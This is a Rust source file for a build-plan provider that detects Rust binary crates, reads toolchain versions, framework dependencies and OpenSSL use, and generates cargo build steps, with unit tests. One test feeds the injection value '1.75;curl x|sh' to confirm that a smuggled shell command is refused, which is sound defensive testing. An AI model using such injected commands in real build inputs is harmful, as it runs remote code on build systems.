//! Rust crates with a binary: `Cargo.toml` with `src/main.rs` or `[[bin]]` targets. Axum,
//! Actix Web, Rocket and Warp are recognised from the dependencies. The Rust version comes from
//! `rust-toolchain.toml` / `rust-toolchain` (a numeric channel), else Cargo.toml's
//! `rust-version`; OpenSSL in the crate graph adds its headers to the builder and libssl3 to
//! the runtime.

use super::toolchain::{self, Minimum};
use super::{argv, default_port, existing, Hints, Plan, ProjectDir, Provider};
use crate::detect::{
    scan, value_rules, BuildPlan, DetectError, Framework, Language, RuntimeVersion, Template,
};

/// Detects and plans Rust binary crates.
pub struct RustProvider;

struct Manifest {
    name: Option<String>,
    bins: Vec<String>,
    deps: Vec<String>,
    /// `[package] rust-version` (or the workspace's).
    rust_version: Option<String>,
}

/// The toolchain channel of `rust-toolchain.toml` or `rust-toolchain` (TOML, or the legacy
/// single line), with the file it came from.
fn toolchain_channel(dir: &ProjectDir<'_>) -> Option<(&'static str, String)> {
    for file in ["rust-toolchain.toml", "rust-toolchain"] {
        let Some(text) = dir.read(file) else { continue };
        let channel = match toml::from_str::<toml::Value>(&text) {
            Ok(v) => v
                .get("toolchain")
                .and_then(|t| t.get("channel"))
                .and_then(|c| c.as_str())
                .map(str::to_string),
            Err(_) => text.lines().next().map(|l| l.trim().to_string()),
        };
        if let Some(channel) = channel.filter(|c| !c.is_empty()) {
            return Some((file, channel));
        }
    }
    None
}

/// A numeric minimum as declared: the file, the field and the version.
type DeclaredMinimum = (&'static str, &'static str, String);

/// The Rust version the project declares, and the minimum the builder must have. A channel
/// like `stable` or `nightly-2024-05-01` is recorded without a tag (the defaults stay).
fn declared_version(
    dir: &ProjectDir<'_>,
    m: &Manifest,
) -> Result<Option<(RuntimeVersion, Option<DeclaredMinimum>)>, DetectError> {
    let (file, field, declared) = match (toolchain_channel(dir), &m.rust_version) {
        (Some((file, channel)), _) => (file, "channel", channel),
        (None, Some(v)) => ("Cargo.toml", "rust-version", v.clone()),
        (None, None) => return Ok(None),
    };
    // A numeric channel is exactly `1.75` or `1.75.0`; anything else with digits in front
    // (`1.75;sh`) is refused rather than guessed at.
    let numeric = toolchain::numeric_part(&declared).map(str::to_string);
    let minimum = match numeric {
        Some(n) if n == declared => {
            value_rules::version_number(&dir.full(file), field, &n)?;
            Some((file, field, n))
        }
        Some(_) => {
            value_rules::version_number(&dir.full(file), field, &declared)?;
            None
        }
        None => None,
    };
    let version = RuntimeVersion {
        declared: declared.clone(),
        source: format!("{file} {field}"),
        tag: minimum.as_ref().map(|(_, _, n)| toolchain::major_minor(n)),
    };
    Ok(Some((version, minimum)))
}

/// True when the crate graph links OpenSSL: `openssl-sys` in Cargo.lock, else (no lockfile) a
/// direct dependency that pulls it in on Linux.
fn uses_openssl(dir: &ProjectDir<'_>, m: &Manifest) -> bool {
    match dir.read("Cargo.lock") {
        Some(lock) => lock.lines().any(|l| l.trim() == "name = \"openssl-sys\""),
        None => m
            .deps
            .iter()
            .any(|d| ["openssl", "openssl-sys", "native-tls"].contains(&d.as_str())),
    }
}

fn manifest(dir: &ProjectDir<'_>) -> Result<Manifest, DetectError> {
    let text = dir.read("Cargo.toml").unwrap_or_default();
    let value: toml::Value = toml::from_str(&text).map_err(|e| DetectError::Manifest {
        path: dir.full("Cargo.toml").into(),
        message: e.to_string(),
    })?;
    let name = value
        .get("package")
        .and_then(|p| p.get("name"))
        .and_then(|n| n.as_str())
        .map(str::to_string);
    let mut bins: Vec<String> = value
        .get("bin")
        .and_then(|b| b.as_array())
        .map(|bins| {
            bins.iter()
                .filter_map(|b| b.get("name").and_then(|n| n.as_str()).map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    if bins.is_empty() && dir.exists("src/main.rs") {
        if let Some(name) = &name {
            bins.push(name.clone());
        }
    }
    let mut deps = Vec::new();
    for table in ["dependencies", "workspace"] {
        if let Some(t) = value.get(table).and_then(|d| d.as_table()) {
            deps.extend(t.keys().cloned());
        }
        if let Some(t) = value
            .get(table)
            .and_then(|d| d.get("dependencies"))
            .and_then(|d| d.as_table())
        {
            deps.extend(t.keys().cloned());
        }
    }
    let rust_version = value
        .get("package")
        .and_then(|p| p.get("rust-version"))
        .and_then(|v| v.as_str())
        .or_else(|| {
            value
                .get("workspace")
                .and_then(|w| w.get("package"))
                .and_then(|p| p.get("rust-version"))
                .and_then(|v| v.as_str())
        })
        .map(str::to_string);
    Ok(Manifest {
        name,
        bins,
        deps,
        rust_version,
    })
}

impl Provider for RustProvider {
    fn name(&self) -> &'static str {
        "rust"
    }

    fn detect(&self, dir: &ProjectDir<'_>) -> bool {
        dir.exists("Cargo.toml") && manifest(dir).map(|m| !m.bins.is_empty()).unwrap_or(true)
    }

    fn plan(&self, dir: &ProjectDir<'_>, hints: &Hints) -> Result<Plan, DetectError> {
        let m = manifest(dir)?;
        let has = |d: &str| m.deps.iter().any(|x| x == d);
        let framework = if has("axum") {
            Some(Framework::Axum)
        } else if has("actix-web") {
            Some(Framework::Actix)
        } else if has("rocket") {
            Some(Framework::Rocket)
        } else if has("warp") {
            Some(Framework::Warp)
        } else {
            None
        };
        let (port, port_source) = hints
            .port_found()
            .or_else(|| {
                dir.port_in_sources(&["rs"], |_, text| {
                    scan::port_in_source(Language::Rust, text)
                })
            })
            .or_else(|| dir.dotenv_port_found())
            .unwrap_or_else(|| default_port(Language::Rust, framework));
        let health = dir.health_route_found(&["rs"]);
        // The binary named like the package, else the first one.
        let bin = m
            .bins
            .iter()
            .find(|b| Some(*b) == m.name.as_ref())
            .or(m.bins.first())
            .cloned()
            .unwrap_or_else(|| "app".to_string());
        // The name goes into `RUN cargo build --bin <name>`.
        value_rules::program_name(
            &dir.full("Cargo.toml"),
            "binary name ([[bin]] or [package] name)",
            &bin,
        )?;
        let mut build = BuildPlan::new(Template::Rust);
        if let Some((version, minimum)) = declared_version(dir, &m)? {
            if let Some((file, field, v)) = &minimum {
                let min = Minimum {
                    file,
                    field,
                    version: v,
                };
                // `rustc --version` prints `rustc 1.63.0 (4b91a6ea7 2022-08-08)`.
                build.setup.push(toolchain::check_command(
                    &dir.full(file),
                    &min,
                    "rust",
                    "Rust",
                    "have=\"$(rustc --version)\" && have=\"${have#rustc }\" && have=\"${have%% *}\"",
                )?);
            }
            build.runtime_version = Some(version);
        }
        if uses_openssl(dir, &m) {
            build.builder_packages = vec!["libssl-dev".to_string(), "pkg-config".to_string()];
            build.runtime_packages = vec!["libssl3".to_string(), "ca-certificates".to_string()];
        }
        build.manifests = existing(dir, &["Cargo.toml", "Cargo.lock"]);
        let locked = if dir.exists("Cargo.lock") {
            " --locked"
        } else {
            ""
        };
        build.build = vec![
            format!("cargo build --release{locked} --bin {bin}"),
            format!("install -D target/release/{bin} /out/app"),
        ];
        build.artifact = Some(bin);
        build.cmd = argv(["/usr/local/bin/app"]);
        Ok(Plan {
            language: Language::Rust,
            framework,
            name: m.name.clone(),
            port,
            port_source,
            health: health.as_ref().map(|(r, _)| r.clone()),
            health_source: health.map(|(_, f)| f),
            openapi_runtime: None,
            env: dir.env_reads(Language::Rust, &["rs"]),
            build,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::SourceTree;

    fn plan_of(files: &[(&str, &str)]) -> Result<Plan, DetectError> {
        let tree = SourceTree::from_memory(files.iter().copied());
        RustProvider.plan(&ProjectDir::new(&tree, "."), &Hints::default())
    }

    const CARGO: &str = "[package]\nname = \"svc\"\nversion = \"0.1.0\"\nrust-version = \"1.70\"\n";
    const MAIN: &str = "fn main() {}\n";

    #[test]
    fn toolchain_file_wins_over_rust_version() {
        let plan = plan_of(&[
            ("Cargo.toml", CARGO),
            ("src/main.rs", MAIN),
            ("rust-toolchain.toml", "[toolchain]\nchannel = \"1.78.0\"\n"),
        ])
        .unwrap();
        let v = plan.build.runtime_version.unwrap();
        assert_eq!(v.tag.as_deref(), Some("1.78"));
        assert_eq!(v.source, "rust-toolchain.toml channel");
        assert!(plan.build.setup[0].contains("declares Rust 1.78.0"));
        assert!(plan.build.setup[0].contains("--base-image rust.builder=IMAGE"));

        let plan = plan_of(&[("Cargo.toml", CARGO), ("src/main.rs", MAIN)]).unwrap();
        let v = plan.build.runtime_version.unwrap();
        assert_eq!(
            (v.tag.as_deref(), v.source.as_str()),
            (Some("1.70"), "Cargo.toml rust-version")
        );

        // The legacy one-line file, with a named channel: recorded, defaults kept, no check.
        let plan = plan_of(&[
            ("Cargo.toml", CARGO),
            ("src/main.rs", MAIN),
            ("rust-toolchain", "stable\n"),
        ])
        .unwrap();
        let v = plan.build.runtime_version.unwrap();
        assert_eq!((v.declared.as_str(), v.tag), ("stable", None));
        assert!(plan.build.setup.is_empty());
    }

    #[test]
    fn a_hostile_channel_is_refused_naming_the_file() {
        let err = plan_of(&[
            ("Cargo.toml", CARGO),
            ("src/main.rs", MAIN),
            ("rust-toolchain", "1.75;curl x|sh\n"),
        ])
        .unwrap_err()
        .to_string();
        assert!(err.starts_with("rust-toolchain: channel"), "{err}");
    }

    #[test]
    fn openssl_in_the_lockfile_brings_headers_and_libssl3() {
        let lock = "version = 3\n\n[[package]]\nname = \"openssl-sys\"\nversion = \"0.9.103\"\n";
        let plan = plan_of(&[
            ("Cargo.toml", CARGO),
            ("src/main.rs", MAIN),
            ("Cargo.lock", lock),
        ])
        .unwrap();
        assert_eq!(plan.build.builder_packages, ["libssl-dev", "pkg-config"]);
        assert_eq!(plan.build.runtime_packages, ["libssl3", "ca-certificates"]);
        let plain = plan_of(&[
            ("Cargo.toml", CARGO),
            ("src/main.rs", MAIN),
            ("Cargo.lock", "version = 3\n"),
        ])
        .unwrap();
        assert!(plain.build.runtime_packages.is_empty());
    }
}
